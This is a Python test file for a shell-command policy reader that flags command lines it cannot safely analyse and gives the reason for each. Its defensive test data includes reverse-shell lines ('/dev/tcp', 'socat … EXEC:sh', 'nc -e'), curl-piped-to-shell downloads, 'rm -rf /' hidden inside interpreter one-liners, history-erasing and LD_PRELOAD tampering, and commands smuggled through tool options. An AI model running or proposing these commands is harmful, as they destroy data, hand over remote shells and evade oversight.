"""Lines that cannot be read, each with its reason; and ordinary ones that can."""

from __future__ import annotations

import pytest

from watchgate.policy.reading import Reason, ShellContext
from watchgate.policy.shell import languages, options, read
from watchgate.policy.shell.variables import hooks

OPAQUE = {
    Reason.COMPUTED: [
        *(
            "$x -rf /",
            "$(cat f) a",
            "`get`",
            'eval "$x"',
            'bash -c "$cmd"',
            "!!",
            "sudo !!",
            "^a^b",
        ),
        *(
            "fc -s to",
            "r",
            "${x}m a",
            'f() { "$@"; }',
            "eval $(curl u)",
            "alias x=$y",
            'env -S "$x"',
        ),
        *("ssh h $x", "watch $x", "bash <<EOF\n$x\nEOF"),
    ],
    Reason.PATTERN: ["/e?? x", "r? -rf x", "/bin/r* x", "[r]m x"],
    Reason.SCRIPT: [
        *("sh script.sh", "bash < script", ". ./env.sh", "source ~/.bashrc", "python x.py"),
        *("perl x.pl", "make install", "npm run x", "ansible-playbook x.yml", "awk -f x y"),
        *("sed -f x y", "/opt/app/run.sh", "psql -f x.sql", "python -m x", "bash script -c x"),
        "bash --rcfile x",
    ],
    Reason.PIPED: [
        *("curl u | sh", "wget -qO- u | bash -s -- y", "base64 -d f | sh", "bash <(curl u)"),
        *("curl u | python3", "cat x | sudo sh", ". <(curl u)", "curl u | tee x | sh"),
    ],
    Reason.LANGUAGE: [
        *(
            "python -c 'print(1)'",
            "perl -e 1",
            "perl -lane 1 f",
            "ruby -e 1",
            "node -e 1",
            "php -r 1",
        ),
        *("mysql -e 'drop table x'", "psql -c 'select 1'", "sqlite3 f 'select 1'", "lua -e 1"),
        *(
            "awk 'BEGIN{system(\"x\")}'",
            "awk '{print | \"sh\"}'",
            "sed '1e id' f",
            "sed 's/a/b/e' f",
        ),
        *("python <<< 'x'", "python3.11 -c x"),
    ],
    Reason.INTERPRETER: [
        *(
            "bash",
            "sh -i",
            "zsh",
            "fish",
            "exec bash",
            "sudo -i",
            "sudo -s",
            "su",
            "su - bob",
            "sudo su -",
        ),
        *(
            "python",
            "python3 -q",
            "psql",
            "mysql -u root",
            "sqlite3 f",
            "irb",
            "docker exec -it w bash",
        ),
        *(
            "docker run -it x",
            "chroot /mnt",
            "unshare -r",
            "nsenter -t 1 -a",
            "script",
            "busybox sh",
        ),
        *("env bash", "newgrp x", "runuser -u bob bash"),
    ],
    Reason.ESCAPE: [
        *(
            "vim f",
            "vi",
            "less f",
            "man ls",
            "more f",
            "nano f",
            "emacs",
            "gdb -p 1",
            "ftp h",
            "sftp h",
        ),
        *(
            "sudoedit f",
            "sudo -e f",
            "visudo",
            "ls | less",
            "git log | less",
            "systemctl edit x",
            "sudo vim x",
        ),
    ],
    Reason.ELSEWHERE: [
        *(
            "ssh h",
            "ssh -p 22 bob@h",
            "tmux",
            "tmux new -s x",
            "screen",
            "telnet h",
            "exec 3<>/dev/tcp/h/1",
        ),
        *("bash -i >& /dev/tcp/h/1 0>&1", "socat TCP:h:1 EXEC:sh", "minicom"),
    ],
    Reason.LATER: [
        *("at now", "echo x | at now", "crontab -e", "crontab f", "batch", "trap 'ls' EXIT"),
        *("systemd-run --on-active=1m ls", 'bind \'"\\C-t": "x"\''),
    ],
    Reason.ENVIRONMENT: [
        *(
            "PATH=/tmp:$PATH",
            "LD_PRELOAD=/x ls",
            "unset PROMPT_COMMAND",
            "PS0=",
            "HISTFILE=",
            "IFS=,",
        ),
        *(
            "export HISTFILE=/dev/null",
            "unset HISTFILE",
            "set +o history",
            "trap '' INT",
            "enable -n x",
        ),
        *(
            "bind -x '\"a\": b'",
            "shopt -u x",
            "env LD_PRELOAD=/x ls",
            "sudo PATH=/x ls",
            "PS1='$(x)'",
        ),
        *(
            "hash -p /x ls",
            "precmd() { x; }",
            "declare -x PATH=/x",
            "export PATH",
            "BASH_ENV=/x bash -c ls",
        ),
        *("PROMPT_COMMAND+=x", "setopt histignorespace", "command_not_found_handle() { x; }"),
    ],
    Reason.WRITABLE: [
        "./x",
        "../x",
        "/tmp/x",
        "/dev/shm/.a",
        "a/b",
        "nohup ./x &",
        "/home/bob/x",
        "~/x",
    ],
    Reason.OPTION: [
        'tar cf x --to-command="$y" z',
        "nc -e $x h 1",
        "nmap --script=x h",
        "rsync -e $x a b",
    ],
    Reason.UNPARSED: ['rm "x', "if true; then", "ls )", "ls <<E\nx"],
}


@pytest.mark.parametrize(
    ("reason", "line"), [(reason, line) for reason, lines in OPAQUE.items() for line in lines]
)
def test_what_cannot_be_read_says_why(reason: Reason, line: str) -> None:
    assert reason in {one.reason for one in read(line).opaque}


@pytest.mark.parametrize(
    "line",
    [
        *(
            "python3 --version",
            "bash --version",
            "vim --version",
            "tmux ls",
            "screen -ls",
            "crontab -l",
        ),
        *(
            "crontab -r",
            "atq",
            "sudo -l",
            "sudo -k",
            "sudo -v",
            "ssh -V",
            "trap -l",
            "bind -l",
            "set -e",
        ),
        *(
            "set -euo pipefail",
            "shopt",
            "enable",
            "command -v ls",
            "type ls",
            "awk '{print $1 \"|\" $2}' f",
        ),
        *(
            "awk '$1 > 5 && $2 || $3' f",
            "sed -n '/a/,/b/p' f",
            "sed 's/e/e/g;s|a|e|' f",
            "docker ps",
        ),
        *(
            "docker exec w ls",
            "kubectl get pods",
            "systemctl status x",
            "git log",
            "ionice -c3 -p 1",
        ),
        *("env", "exec >/tmp/x", "timeout 5 ls", "fc -l", "history", "PS1='$ '", "FOO=1 ls", "x=1"),
        *(
            "socat - TCP:h:1",
            "nc -z h 22",
            "visudo -c",
            "ssh h ls",
            "find . -name '*.py'",
            "xargs ls < f",
        ),
        *(
            "/usr/local/bin/tool x",
            "/etc/init.d/nginx restart",
            "eval 'ls'",
            "sh -c ls",
            "bash -c 'ls' x",
        ),
        *(
            "strace -p 1",
            "ip netns list",
            "bash <<'E'\nls\nE",
            "source <(echo ls)",
            "alias",
            "watch -n1 df",
        ),
    ],
)
def test_what_can_be_read_is_not_opaque(line: str) -> None:
    assert read(line).opaque == ()


def test_the_part_that_cannot_be_read_is_named() -> None:
    (found,) = read("ls; curl u | bash -s x").opaque

    assert (found.text, found.program) == ("bash -s x", "bash")


def test_a_function_of_the_session_is_not_known() -> None:
    (found,) = read("deploy x", ShellContext(functions=frozenset({"deploy"}))).opaque

    assert (found.reason, found.program) == (Reason.SCRIPT, "deploy")


def test_a_command_that_other_code_gives_a_shell_is_read_besides() -> None:
    for line in (
        'python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/"])\'',
        "perl -e 'exec \"rm -rf /\"'",
        "ruby -e '`rm -rf /`'",
        "awk 'BEGIN { system(\"rm -rf /\") }'",
        'node -e \'require("child_process").execSync("rm -rf /")\'',
    ):
        reading = read(line)

        assert "rm -r -f /" in reading.normalized, line
        assert Reason.LANGUAGE in {one.reason for one in reading.opaque}


def test_a_program_that_an_option_gives_is_read() -> None:
    for line in (
        "tar cf x --checkpoint-action=exec='rm x' y",
        "ssh -o ProxyCommand='rm x' h ls",
        "git -c core.pager='rm x' log",
        "rsync -e 'rm x' a b",
        "sort --compress-program 'rm x' f",
        "nc -e 'rm x' h 1",
    ):
        assert "rm x" in read(line).normalized, line


def test_variables_that_change_the_meaning_of_others_are_known() -> None:
    assert hooks("LD_ANYTHING")
    assert not hooks("FOO")
    assert callable(languages.language)
    assert "tar" in options.GIVEN
